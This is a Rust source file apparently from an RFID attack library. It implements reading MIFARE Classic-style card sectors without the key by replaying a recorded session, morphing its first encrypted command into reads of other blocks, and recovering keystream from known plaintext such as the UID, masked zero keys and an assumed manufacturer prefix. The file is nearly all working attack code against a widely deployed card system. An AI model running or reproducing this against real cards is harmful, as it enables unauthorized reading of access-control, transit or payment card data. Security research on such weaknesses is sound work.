//! Reading sectors without the key.
//!
//! Every read is made in a fresh replay of the recorded session, with the
//! recorded first command morphed into a read of the wanted block, so every
//! answer is encrypted with the same keystream. Plaintext that is known for
//! one block (zeros where keys are masked, the UID, an assumed manufacturer
//! prefix, a block the user knows) yields keystream that decrypts the others.

use alloc::format;
use alloc::string::String;
use alloc::vec::Vec;
use core::fmt;

use super::keystream::{morph_command, FrameShape, RecoveredKeystream};
use super::replay::{replay_until_nonce, AttackOptions, ReplayContext};
use super::{AttackError, FIRST_COMMAND_START};
use crate::commands::{Command, CommandTable};
use crate::framing::{check_crc, compute_bcc, with_crc, FrameKind, WireBits};
use crate::layout::{AccessConditions, Block, Profile, BLOCK_SIZE};
use crate::session::AttackerPort;
use crate::tracefmt::Trace;

/// Keystream index of the answer to the first command.
pub(super) const FIRST_ANSWER_START: usize = FIRST_COMMAND_START + 32;

/// The attack only needs sector geometry; the 4K layout contains the 1K one.
pub(super) const GEOMETRY: Profile = Profile::Classic4K;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Confidence {
    /// Decrypted with keystream that was verified.
    Known,
    /// A key position the card always reads as zeros.
    MaskedZero,
    Unknown,
}

/// What an attack learned about one sector.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SectorDump {
    pub sector: usize,
    pub first_block: usize,
    pub blocks: Vec<[(u8, Confidence); BLOCK_SIZE]>,
    pub diagnostics: Vec<String>,
    /// Nonce requests over all replays.
    pub attempts: u64,
    pub replays: u64,
    /// Keystream recovered on the way, indexed like the recorded session.
    pub keystream: RecoveredKeystream,
    /// The first-command plaintext the dump was made with.
    pub first_command: Vec<u8>,
}

impl SectorDump {
    fn empty(sector: usize) -> SectorDump {
        SectorDump {
            sector,
            first_block: GEOMETRY.first_block(sector),
            blocks: alloc::vec![[(0, Confidence::Unknown); BLOCK_SIZE]; GEOMETRY.blocks_in_sector(sector)],
            diagnostics: Vec::new(),
            attempts: 0,
            replays: 0,
            keystream: RecoveredKeystream::new(),
            first_command: Vec::new(),
        }
    }

    pub fn count(&self, c: Confidence) -> usize {
        self.blocks.iter().flatten().filter(|(_, k)| *k == c).count()
    }

    /// Bytes whose read value is known (decrypted or masked).
    pub fn recovered(&self) -> usize {
        self.blocks.len() * BLOCK_SIZE - self.count(Confidence::Unknown)
    }

    /// The block if every byte of it is recovered.
    pub fn block(&self, n: usize) -> Option<Block> {
        let row = self.blocks.get(n.checked_sub(self.first_block)?)?;
        let mut b = [0u8; BLOCK_SIZE];
        for (i, (v, c)) in row.iter().enumerate() {
            if *c == Confidence::Unknown {
                return None;
            }
            b[i] = *v;
        }
        Some(b)
    }

    fn set(&mut self, block_in_sector: usize, bytes: &[Option<u8>], range: core::ops::Range<usize>, c: Confidence) {
        for i in range {
            if let Some(Some(v)) = bytes.get(i) {
                self.blocks[block_in_sector][i] = (*v, c);
            }
        }
    }

    fn note(&mut self, s: String) {
        self.diagnostics.push(s);
    }
}

impl fmt::Display for SectorDump {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        writeln!(f, "# sector {}: '*' = key position read as zeros, '??' = unknown", self.sector)?;
        for (i, row) in self.blocks.iter().enumerate() {
            write!(f, "{:03}:", self.first_block + i)?;
            for (v, c) in row {
                match c {
                    Confidence::Known => write!(f, " {v:02x}")?,
                    Confidence::MaskedZero => write!(f, " {v:02x}*")?,
                    Confidence::Unknown => f.write_str(" ??")?,
                }
            }
            writeln!(f)?;
        }
        for d in &self.diagnostics {
            writeln!(f, "# {d}")?;
        }
        Ok(())
    }
}

/// Plaintext guesses for the recorded first command, most likely first.
/// A genuine reader authenticates for the block it is about to use, so the
/// authenticated block comes first.
pub(super) fn command_guesses(ctx: &ReplayContext, answer: Option<FrameShape>, table: &CommandTable) -> Vec<Vec<u8>> {
    let sector = GEOMETRY.sector_of(ctx.block).unwrap_or(0);
    let first = GEOMETRY.first_block(sector);
    let mut blocks: Vec<usize> = alloc::vec![ctx.block];
    blocks.extend((first..first + GEOMETRY.blocks_in_sector(sector)).filter(|b| *b != ctx.block));
    let commands: &[Command] = match answer {
        Some(FrameShape::Standard(18)) | None => &[Command::Read],
        Some(FrameShape::Nibble) => {
            &[Command::Increment, Command::Decrement, Command::Restore, Command::Transfer, Command::Write]
        }
        Some(_) => &[Command::Read],
    };
    let mut out = Vec::new();
    for c in commands {
        for b in &blocks {
            out.push(with_crc(&[table.code(*c), *b as u8]));
        }
    }
    out
}

/// Replays the recorded session and turns its first command into other
/// commands of the same length.
pub(super) struct Replayer<'a> {
    pub ctx: &'a ReplayContext,
    pub opts: &'a AttackOptions,
    pub cipher_command: WireBits,
    pub guess: Vec<u8>,
    pub attempts: u64,
    pub replays: u64,
}

impl<'a> Replayer<'a> {
    pub fn new(ctx: &'a ReplayContext, opts: &'a AttackOptions, guess: Vec<u8>) -> Result<Self, AttackError> {
        let (cipher_command, _) = ctx.first_command()?;
        Ok(Replayer { ctx, opts, cipher_command, guess, attempts: 0, replays: 0 })
    }

    /// Fresh replay, ready for a frame at the first command position.
    pub fn replay<P: AttackerPort + ?Sized>(&mut self, port: &mut P) -> Result<(), AttackError> {
        let s = replay_until_nonce(port, self.ctx, self.opts)?;
        self.attempts += s.attempts;
        self.replays += 1;
        Ok(())
    }

    /// Keystream of the first command position under the guessed plaintext.
    pub fn command_keystream(&self) -> RecoveredKeystream {
        let mut ks = RecoveredKeystream::new();
        ks.learn_known_frame(FIRST_COMMAND_START, &self.cipher_command, &self.guess).expect("fresh keystream");
        ks
    }

    /// The recorded first command turned into `plain` (4 bytes with CRC).
    pub fn morph(&self, plain: &[u8]) -> Result<WireBits, AttackError> {
        morph_command(&self.cipher_command, &self.guess, plain)
    }

    pub fn command(&self, cmd: Command, block: usize) -> Result<WireBits, AttackError> {
        self.morph(&with_crc(&[self.opts.commands.code(cmd), block as u8]))
    }

    /// Replays and reads `block`; `None` if the answer is not a full block.
    pub fn read<P: AttackerPort + ?Sized>(&mut self, port: &mut P, block: usize) -> Result<Option<WireBits>, AttackError> {
        self.replay(port)?;
        let frame = self.command(Command::Read, block)?;
        Ok(port.send(&frame).filter(|r| r.kind() == Some(FrameKind::Standard) && r.byte_len() == 18))
    }
}

fn decrypt(ks: &RecoveredKeystream, wire: &WireBits) -> Vec<Option<u8>> {
    let (bytes, parity) = ks.decrypt_partial(FIRST_ANSWER_START, wire);
    // a byte whose parity does not check out is not trusted
    bytes.iter().zip(&parity).map(|(b, p)| if *p == Some(false) { None } else { *b }).collect()
}

fn full_block(bytes: &[Option<u8>]) -> Option<Vec<u8>> {
    let b: Option<Vec<u8>> = bytes.iter().copied().collect();
    b.filter(|b| b.len() == 18 && check_crc(b))
}

fn known(bytes: &[u8]) -> Vec<Option<u8>> {
    bytes.iter().map(|b| Some(*b)).collect()
}

/// Masked trailer as a read returns it.
fn masked_trailer(ac: [u8; 3], u: u8) -> Vec<u8> {
    let mut t = alloc::vec![0u8; 16];
    t[6..9].copy_from_slice(&ac);
    t[9] = u;
    t
}

/// Reads all of sector 0 using the UID, an assumed manufacturer prefix and
/// the zeros of masked keys, as long as key B is not readable.
pub fn read_sector_zero<P: AttackerPort + ?Sized>(
    port: &mut P,
    trace: &Trace,
    opts: &AttackOptions,
) -> Result<SectorDump, AttackError> {
    let ctx = ReplayContext::from_trace(trace)?;
    let sector = GEOMETRY.sector_of(ctx.block).ok_or(AttackError::MalformedTrace(String::from("no such block")))?;
    if sector != 0 {
        return Err(AttackError::WrongSector { expected: 0, found: sector });
    }
    let (_, answer) = ctx.first_command()?;
    let mut first_failure: Option<SectorDump> = None;
    let (mut attempts, mut replays) = (0, 0);
    for guess in command_guesses(&ctx, answer, &opts.commands) {
        let mut r = Replayer::new(&ctx, opts, guess)?;
        let outcome = sector_zero_with(port, &mut r);
        attempts += r.attempts;
        replays += r.replays;
        let (mut dump, ok) = outcome?;
        dump.attempts = attempts;
        dump.replays = replays;
        if ok {
            return Ok(dump);
        }
        first_failure.get_or_insert(dump);
    }
    let mut dump = first_failure.expect("at least one guess");
    dump.attempts = attempts;
    dump.replays = replays;
    Ok(dump)
}

fn sector_zero_with<P: AttackerPort + ?Sized>(port: &mut P, r: &mut Replayer) -> Result<(SectorDump, bool), AttackError> {
    let mut dump = SectorDump::empty(0);
    dump.first_command = r.guess.clone();
    let uid = r.ctx.uid;
    let bcc = compute_bcc(&uid).expect("4 bytes");
    let (Some(c3), Some(c0)) = (r.read(port, 3)?, r.read(port, 0)?) else {
        dump.note(String::from("the card did not return a block for a morphed read"));
        return Ok((dump, false));
    };
    let mut ks = r.command_keystream();
    // key A always reads as zeros; UID and BCC are public
    let base = ks
        .learn_frame(FIRST_ANSWER_START, &c3, &[Some(0); 6])
        .and_then(|_| ks.learn_frame(FIRST_ANSWER_START, &c0, &known(&[uid[0], uid[1], uid[2], uid[3], bcc])));
    if base.is_err() {
        dump.note(format!("guess {:02x?} for the recorded command is inconsistent with the UID", r.guess));
        return Ok((dump, false));
    }
    let b0 = decrypt(&ks, &c0);
    dump.set(0, &b0, 0..6, Confidence::Known);
    dump.set(3, &known(&[0; 6]), 0..6, Confidence::MaskedZero);
    dump.keystream = ks.clone();

    let mfr1 = r.opts.mfr1;
    if b0[5] != Some(mfr1[0]) {
        dump.note(format!("block 0 byte 5 is {:02x?}, the assumed manufacturer prefix starts with {:02x}", b0[5], mfr1[0]));
    }
    let mut trial = ks.clone();
    let mut plain0: Vec<Option<u8>> = alloc::vec![None; 6];
    plain0.extend(mfr1[1..].iter().map(|b| Some(*b)));
    if trial.learn_frame(FIRST_ANSWER_START, &c0, &plain0).is_err() {
        dump.note(String::from("assumed manufacturer prefix contradicts the parity bits of block 0"));
        return Ok((dump, false));
    }
    let t = decrypt(&trial, &c3);
    let (Some(a6), Some(a7), Some(a8), Some(u)) = (t[6], t[7], t[8], t[9]) else {
        dump.note(String::from("access bits could not be decrypted"));
        return Ok((dump, false));
    };
    let Ok(ac) = AccessConditions::unpack([a6, a7, a8]) else {
        dump.note(format!(
            "access bits {a6:02x} {a7:02x} {a8:02x} are inconsistent: the manufacturer prefix assumption is wrong for this card"
        ));
        return Ok((dump, false));
    };
    let mut ks = trial;
    dump.set(0, &decrypt(&ks, &c0), 6..10, Confidence::Known);
    dump.set(3, &t, 6..10, Confidence::Known);

    if ac.key_b_readable() {
        dump.note(String::from("key B is readable: its bytes have no known plaintext and stay unknown"));
    } else {
        let trailer = with_crc(&masked_trailer([a6, a7, a8], u));
        if ks.learn_known_frame(FIRST_ANSWER_START, &c3, &trailer).is_err() {
            dump.note(String::from("trailer plaintext contradicts the recorded parity bits"));
            return Ok((dump, false));
        }
        dump.set(3, &known(&[0; 16]), 10..16, Confidence::MaskedZero);
    }
    let full0 = decrypt(&ks, &c0);
    if ac.key_b_readable() {
        dump.set(0, &full0, 0..10, Confidence::Known);
    } else if full_block(&full0).is_some() {
        dump.set(0, &full0, 0..16, Confidence::Known);
    } else {
        dump.note(String::from("block 0 failed its CRC after decryption"));
    }
    for b in 1..3 {
        let Some(c) = r.read(port, b)? else {
            dump.note(format!("block {b} could not be read"));
            continue;
        };
        let p = decrypt(&ks, &c);
        if ac.key_b_readable() {
            dump.set(b, &p, 0..10, Confidence::Known);
        } else if full_block(&p).is_some() {
            dump.set(b, &p, 0..16, Confidence::Known);
        } else {
            dump.note(format!("block {b} failed its CRC after decryption"));
        }
    }
    dump.keystream = ks;
    Ok((dump, true))
}

/// Reads a sector. With one known block in it, everything is read; without,
/// the first 6 bytes of every block (where key A reads as zeros) and, if key
/// B is not readable, the last 6.
pub fn read_sector<P: AttackerPort + ?Sized>(
    port: &mut P,
    trace: &Trace,
    known_block: Option<(usize, Block)>,
    opts: &AttackOptions,
) -> Result<SectorDump, AttackError> {
    let ctx = ReplayContext::from_trace(trace)?;
    let sector = GEOMETRY.sector_of(ctx.block).ok_or(AttackError::MalformedTrace(String::from("no such block")))?;
    if let Some((b, _)) = known_block {
        let expected = GEOMETRY.sector_of(b).ok_or(AttackError::InvalidArgument("no such block"))?;
        if expected != sector {
            return Err(AttackError::WrongSector { expected, found: sector });
        }
    }
    let (_, answer) = ctx.first_command()?;
    let guesses = command_guesses(&ctx, answer, &opts.commands);
    let (mut attempts, mut replays) = (0, 0);
    let mut last = None;
    let tries = if known_block.is_some() { guesses.len() } else { 1 };
    for guess in guesses.into_iter().take(tries) {
        let mut r = Replayer::new(&ctx, opts, guess)?;
        let outcome = match known_block {
            Some(kb) => sector_with_known_block(port, &mut r, sector, kb),
            None => sector_without_known_block(port, &mut r, sector),
        };
        attempts += r.attempts;
        replays += r.replays;
        let (mut dump, ok) = outcome?;
        dump.attempts = attempts;
        dump.replays = replays;
        if ok {
            return Ok(dump);
        }
        last = Some(dump);
    }
    Ok(last.expect("at least one guess"))
}

fn sector_with_known_block<P: AttackerPort + ?Sized>(
    port: &mut P,
    r: &mut Replayer,
    sector: usize,
    (kb, data): (usize, Block),
) -> Result<(SectorDump, bool), AttackError> {
    let mut dump = SectorDump::empty(sector);
    dump.first_command = r.guess.clone();
    let Some(c) = r.read(port, kb)? else {
        dump.note(format!("known block {kb} could not be read"));
        return Ok((dump, false));
    };
    let mut ks = r.command_keystream();
    if ks.learn_known_frame(FIRST_ANSWER_START, &c, &with_crc(&data)).is_err() {
        dump.note(format!("guess {:02x?} for the recorded command does not fit the known block", r.guess));
        return Ok((dump, false));
    }
    let trailer = GEOMETRY.trailer_block(sector);
    for b in dump.first_block..=trailer {
        let i = b - dump.first_block;
        let cipher = if b == kb { Some(c.clone()) } else { r.read(port, b)? };
        let Some(cipher) = cipher else {
            dump.note(format!("block {b} could not be read"));
            continue;
        };
        let p = decrypt(&ks, &cipher);
        if full_block(&p).is_none() {
            dump.note(format!("block {b} failed its CRC after decryption"));
            continue;
        }
        if b != trailer {
            dump.set(i, &p, 0..16, Confidence::Known);
            continue;
        }
        dump.set(i, &p, 0..6, Confidence::MaskedZero);
        dump.set(i, &p, 6..10, Confidence::Known);
        let ac = p[6..9].iter().map(|b| b.unwrap_or_default()).collect::<Vec<u8>>();
        match AccessConditions::unpack([ac[0], ac[1], ac[2]]) {
            Ok(ac) if ac.key_b_readable() => dump.set(i, &p, 10..16, Confidence::Known),
            Ok(_) => dump.set(i, &p, 10..16, Confidence::MaskedZero),
            Err(_) => dump.note(String::from("trailer access bits are inconsistent")),
        }
    }
    dump.keystream = ks;
    Ok((dump, true))
}

fn sector_without_known_block<P: AttackerPort + ?Sized>(
    port: &mut P,
    r: &mut Replayer,
    sector: usize,
) -> Result<(SectorDump, bool), AttackError> {
    let mut dump = SectorDump::empty(sector);
    dump.first_command = r.guess.clone();
    let trailer = GEOMETRY.trailer_block(sector);
    let Some(ct) = r.read(port, trailer)? else {
        dump.note(String::from("trailer could not be read"));
        return Ok((dump, false));
    };
    let mut ks = r.command_keystream();
    if ks.learn_frame(FIRST_ANSWER_START, &ct, &[Some(0); 6]).is_err() {
        dump.note(String::from("the recorded command guess contradicts the trailer's parity bits"));
        return Ok((dump, false));
    }
    let mut with_b = ks.clone();
    let mut zeros_b: Vec<Option<u8>> = alloc::vec![None; 10];
    zeros_b.extend([Some(0); 6]);
    let key_b_masked = with_b.learn_frame(FIRST_ANSWER_START, &ct, &zeros_b).is_ok();
    if key_b_masked {
        dump.note(String::from("key B assumed unreadable (reads as zeros); consistent with the trailer's parity bits"));
        ks = with_b;
    } else {
        dump.note(String::from("key B is readable: the last 6 bytes of every block stay unknown"));
    }
    let ti = trailer - dump.first_block;
    dump.set(ti, &known(&[0; 16]), 0..6, Confidence::MaskedZero);
    if key_b_masked {
        dump.set(ti, &known(&[0; 16]), 10..16, Confidence::MaskedZero);
    }
    for b in dump.first_block..trailer {
        let Some(c) = r.read(port, b)? else {
            dump.note(format!("block {b} could not be read"));
            continue;
        };
        let p = decrypt(&ks, &c);
        let i = b - dump.first_block;
        dump.set(i, &p, 0..6, Confidence::Known);
        dump.set(i, &p, 10..16, Confidence::Known);
    }
    dump.keystream = ks;
    Ok((dump, true))
}
